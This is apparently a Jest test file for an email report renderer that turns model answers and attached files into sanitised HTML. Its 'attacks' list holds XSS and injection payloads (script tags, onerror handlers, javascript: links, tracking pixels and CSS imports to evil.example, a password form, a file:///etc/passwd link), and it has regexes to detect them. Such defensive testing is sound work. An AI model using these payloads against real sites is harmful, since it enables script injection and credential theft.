import { renderReport } from '../../../../../nodes/shared/report/renderReport.ts';
import { type NamedFile, nameFields } from '../../../../../nodes/shared/report/ReportFile.ts';
import { sanitizeReport } from '../../../../../nodes/shared/report/sanitizeReport.ts';

type File = [fileName: string, mimeType: string, rows?: Record<string, unknown>[]];

function filesOf(...files: File[]): NamedFile[] {
	return nameFields(
		files.map(([fileName, mimeType, rows]) => ({
			described: { fileName },
			binary: { data: '', mimeType },
			table: rows && { rows: rows as never[], rowCount: rows.length },
		})),
	);
}

function render(
	answer: string,
	files: NamedFile[] = [],
	more: { maxRows?: number; linked?: NamedFile[] } = {},
) {
	const shown = files.filter(({ isImage }) => isImage);
	const named = files.filter(({ isImage }) => !isImage);
	return renderReport(answer, files, { shown, linked: [], named, maxRows: 20, ...more });
}

/** The opening tags. Outside of them, a `<` can only be escaped. */
const tagsIn = (html: string): string[] => html.match(/<[^/][^<>]*>/g) ?? [];

const chart: File = ['chart.png', 'image/png'];

/** What a model or a file may contain when somebody wants to attack the reader of a mail. */
const attacks = [
	'<script>alert(1)</script>',
	'<img src="https://evil.example/x.png" onerror="alert(1)">',
	'<svg><style>@import "https://evil.example/x.css"</style></svg>',
	'<p style="position:fixed;inset:0">Over everything</p>',
	'<div style="background:url(https://evil.example/x)">x</div></div></div>',
	'<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<form action="https://evil.example"><input name="password"></form>',
	'<a href="cid:file_1" download="x.exe">x</a>',
	'![pixel](https://evil.example/pixel.png)',
	'![pixel](//evil.example/pixel.png "title")',
	'![pixel][1]\n\n[1]: https://evil.example/pixel.png',
	'![svg](data:image/svg+xml,<svg onload=alert(1)>)',
	'![png](data:image/png;base64,AAAA)',
	'![chart](chart.png"onerror="alert(1))',
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt&colon;alert(1))',
	'[x](<java\tscript:alert(1)>)',
	'[x](vbscript:alert(1)) [x](file:///etc/passwd) [x](data:text/html;base64,PHNjcmlwdD4=)',
	'<javascript:alert(1)>',
	'[x](//evil.example) [x](/settings) [x](#top) [x](cid:image_1)',
	'[x](https://ok.example/"onmouseover="alert(1))',
	'```"><script>alert(1)</script>\nx\n```',
	'1. <!-- --><script>alert(1)</script>',
	'| a |\n| - |\n| <img src=x onerror=alert(1)> |',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'<img src="cid:image_1" style="width:9999px">',
	'\u0000<scr\u0000ipt>alert(1)</script>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

/** All that may come out: names of elements, `cid:` images, links to the web, and our own styles. */
const HARMLESS =
	/^<(?:\/?[a-z][a-z0-9]*(?: \/)?|img src="cid:image_1" alt="[^"]*" style="max-width:100%;height:auto" \/|a href="(?:https?:\/\/|mailto:)[^"]*" rel="noopener noreferrer" target="_blank"|(?:div|table|t[hd]|pre|code|blockquote|h[1-3]) style="[a-z0-9#%:;,. -]*"|ol start="\d+")>$/i;

const HARMLESS_ELEMENT =
	/^<(?:h[1-6]|p|div|span|br|hr|blockquote|pre|code|strong|em|s|a|img|[uo]l|li|table|thead|tbody|t[rhd])\b/;

function expectHarmless(html: string): void {
	const tags = tagsIn(html);
	expect(tags.filter((tag) => !HARMLESS.test(tag))).toEqual([]);
	expect(tags.filter((tag) => !HARMLESS_ELEMENT.test(tag))).toEqual([]);
	// The styles are ours, so none of them loads anything.
	expect(tags.join('\n')).not.toMatch(/url\(|@import|expression|position/);
}

describe('the HTML of a report', () => {
	it.each(attacks)('keeps harmless what a model writes: %j', (attack) => {
		expectHarmless(render(`Before\n\n${attack}\n\nAfter`, filesOf(chart)).html);
		expectHarmless(render(attack, filesOf(chart)).html);
	});

	it.each(attacks)('shows as text what a table contains: %j', (attack) => {
		const rows = [{ [attack]: attack, n: 1 }];
		const { html } = render('', filesOf([`${attack}.csv`, 'text/csv', rows], chart));
		expectHarmless(html);
		expect(tagsIn(html).filter((tag) => tag.startsWith('<t'))).toHaveLength(9);
		expect(html).not.toMatch(/<(?:a|s|em) /);
		expect(html.match(/<img/g)).toHaveLength(1);
	});

	it.each(attacks.filter((attack) => attack.includes('<')))(
		'is harmless even if HTML gets past the Markdown: %j',
		(attack) => {
			const html = sanitizeReport(attack);
			expect(html).not.toMatch(
				/script[ >]|\son\w+=|https:\/\/evil|url\(|position:|<(?:svg|form|input|base|meta|style|math)/,
			);
		},
	);

	it('has the Markdown of the answer: headings, lists, tables, code and links', () => {
		const { html } = render(
			'# Sales\n\n**Up** by *3* %.\nSee [the data](https://ok.example/a?b=1&c=2).\n\n- one\n- two\n\n| a | b |\n| --- | ---: |\n| x | 1 |\n\n```\nprint(1 < 2)\n```',
		);
		expect(html).toMatch(/<h1 [^>]*>Sales<\/h1>/);
		expect(html).toContain('<strong>Up</strong> by <em>3</em> %.<br />');
		expect(html).toContain('<a href="https://ok.example/a?b=1&amp;c=2"');
		expect(html).toContain('<li>one</li>');
		expect(html).toMatch(/<td style="[^"]*text-align:right">1<\/td>/);
		expect(html).toContain('print(1 &lt; 2)');
	});

	it('breaks lines where models write <br>, but shows it as text in code and in cells of a CSV', () => {
		const { html } = render(
			'| a |\n| - |\n| x<br>y<BR /> |\n\n`<br>`',
			filesOf(['a.csv', 'text/csv', [{ a: 'p<br>q' }]]),
		);
		expect(html).toMatch(/>x<br \/>\s*y<br \/>\s*<\/td>/);
		expect(html).toContain('&lt;br&gt;</code>');
		expect(html).toContain('>p&lt;br&gt;q</td>');
	});

	it('shows each image once: where the answer has it, otherwise below', () => {
		const files = filesOf(chart, ['my chart.png', 'image/png'], ['rest.gif', 'image/gif']);
		const { html } = render('First ![A chart](my%20chart.png) here.', files);
		expect(html.match(/src="cid:image_\d"/g)).toEqual([
			'src="cid:image_2"',
			'src="cid:image_1"',
			'src="cid:image_3"',
		]);
		expect(html).toContain('alt="A chart"');
	});

	it('shows as text what a file name contains, where it is a link or describes an image', () => {
		const name = '<a href="https://evil.example">x" onerror="alert(1)';
		const [image, linked] = filesOf([name, 'image/png'], [name, 'text/plain']) as [
			NamedFile,
			NamedFile,
		];
		const alt =
			'alt="&lt;a href=&quot;https://evil.example&quot;&gt;x&quot; onerror=&quot;alert(1)"';
		const { html } = render('', [image, linked], { linked: [linked] });
		expect(tagsIn(html).filter((tag) => tag.startsWith('<img'))).toEqual([
			expect.stringContaining(alt),
		]);
		expect(html).not.toContain('<a href="https');
		expect(html.match(/<a href="cid:file_1"/g)).toHaveLength(1);
	});

	it('limits the width of wide images for Outlook, which ignores max-width', () => {
		const [wide, narrow] = filesOf(chart, ['small.png', 'image/png']);
		const files = [
			{ ...wide, width: 2400 },
			{ ...narrow, width: 640 },
		] as NamedFile[];
		const { html } = render('', files);
		expect(html.match(/<img src="cid:image_1" .*?>/)?.[0]).toContain('width="800"');
		expect(html.match(/<img src="cid:image_2" .*?>/)?.[0]).not.toContain('width="');
	});

	it('names files that it cannot show, SVG included', () => {
		const files = filesOf(['a & b.pdf', 'application/pdf'], ['chart.svg', 'image/svg+xml']);
		const { html } = render('Done.', files);
		expect(html).toContain('📎 a &amp; b.pdf, chart.svg');
		expect(html).not.toContain('<img');
	});

	it('shows the first rows of a CSV, and how many there are', () => {
		const rows = Array.from({ length: 30 }, (_, n) => ({ name: `row ${n}`, n, share: n / 8 }));
		const { html, tables } = render('', filesOf(['rows.csv', 'text/csv', rows]), { maxRows: 3 });
		expect(html).toContain('<strong>rows.csv</strong> (1–3 / 30)');
		expect(html.match(/<tr>/g)).toHaveLength(4);
		expect(html).toMatch(/text-align:right">0.125<\/td>/);
		expect(tables).toHaveLength(1);
		expect(render('', filesOf(['rows.csv', 'text/csv', rows]), { maxRows: 0 }).tables).toEqual([]);
	});

	it('has a heading without a range above a table that is complete', () => {
		const { html } = render('', filesOf(['rows.csv', 'text/csv', [{ a: 1 }]]));
		expect(html).toContain('<p><strong>rows.csv</strong></p>');
	});

	it('keeps the columns of tables that code printed', () => {
		const { html } = render('       city  n\n0    Berlin  2\n1  New York  1\n\nDone.');
		expect(html).toMatch(/<pre [^>]*><code [^>]*> {7}city {2}n\n0 {4}Berlin {2}2\n/);
		expect(html).toContain('<p>Done.</p>');
	});

	it.each([
		['words', 'word '.repeat(40_000)],
		['characters that HTML escapes', '&"<'.repeat(40_000)],
		['characters of four bytes', '📊'.repeat(40_000)],
		['lines', 'a\n'.repeat(60_000)],
		['tables', `| a | b |\n| - | - |\n${'| 1 | 2 |\n'.repeat(20_000)}`],
	])('has at most 100 KB, as Gmail clips longer mails: %s', (_what, answer) => {
		const { html, isCut } = render(answer, filesOf(chart));
		expect(Buffer.byteLength(html)).toBeLessThanOrEqual(100_000);
		expect(isCut).toBe(true);
		expect(html).toContain('cid:image_1');
	});

	it('leaves out tables that do not fit any more, and wide ones end after twelve columns', () => {
		const cells = Array.from({ length: 50 }, (_, n) => [`column ${n}`, 'x'.repeat(1000)]);
		const row = Object.fromEntries(cells) as Record<string, string>;
		const rows = Array.from({ length: 20 }, () => row);
		const files = filesOf(['a.csv', 'text/csv', rows], ['b.csv', 'text/csv', rows]);
		const { html, tables } = render('Done.', files);
		expect(tables).toHaveLength(1);
		expect(html.match(/<th /g)).toHaveLength(12);
		expect(html).toContain(`>${'x'.repeat(200)}…<`);
		expect(Buffer.byteLength(html)).toBeLessThanOrEqual(100_000);
	});

	it('names at most fifty files', () => {
		const many = Array.from({ length: 60 }, (_, n): File => [`${n}.pdf`, 'application/pdf']);
		const { html } = render('', filesOf(...many));
		expect(html).toContain('49.pdf, …');
	});
});
